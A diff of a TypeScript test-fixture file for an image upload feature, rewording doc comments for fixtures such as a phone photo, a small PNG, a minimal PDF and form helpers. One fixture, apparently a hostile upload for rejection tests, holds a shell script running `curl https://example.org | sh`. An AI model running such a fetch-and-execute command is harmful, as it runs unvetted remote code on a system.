@@ -5,7 +5,10 @@ import type { Turn } from "#server/pictures/picture-cache.ts";
 import type { Accepting } from "#server/uploads/accept-image.ts";
 import type { Upload } from "#server/uploads/upload.ts";
 
-/** A picture left red and right blue, as a phone held upright takes it: lying, with its place and make. */
+/**
+ * Returns a picture, left red and right blue, as an upright phone stores it: rotated, with its
+ * location and make.
+ */
 export async function phonePhoto(): Promise<Buffer> {
   const red = await sharp(plain("#d00", 400, 400))
     .png()
@@ -25,7 +28,7 @@ export const plain = (background: string, width: number, height: number) => ({
   create: { width, height, channels: 3 as const, background },
 });
 
-/** A sound PNG of so many pixels, in few bytes: black and nothing else. */
+/** Returns a valid all-black PNG of a size in pixels, in few bytes. */
 export function blackPng(width: number, height: number): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -45,7 +48,7 @@ function chunk(name: string, content = Buffer.alloc(0)): Buffer {
   return Buffer.concat([length, named, sum]);
 }
 
-/** The smallest thing that is a PDF by its two ends. */
+/** The smallest file that starts and ends like a PDF. */
 export const smallPdf = Buffer.from(
   "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
 );
@@ -55,7 +58,7 @@ export const script = Buffer.from("#!/bin/sh\ncurl https://example.org | sh\n");
 export const upload = (bytes: Buffer, fileName = "picture.png", declaredType = "image/png") =>
   ({ field: "picture", fileName, declaredType, bytes }) satisfies Upload;
 
-/** Whoever need not wait for a turn. */
+/** A turn in the queue that needs no waiting. */
 export const atOnce: Turn = { caller: "", run: (make) => make() };
 export const acceptingAtOnce: Accepting = {
   actor: { kind: "visitor" },
@@ -64,7 +67,7 @@ export const acceptingAtOnce: Accepting = {
   slot: noSlot,
 };
 
-/** A form as a browser posts it; `file` stands for one field with a file. */
+/** Returns a form as a browser posts it. Use `createFile` for a field with a file. */
 export function postedForm(
   fields: Record<string, string | File>,
 ): RequestInit & { body: FormData } {
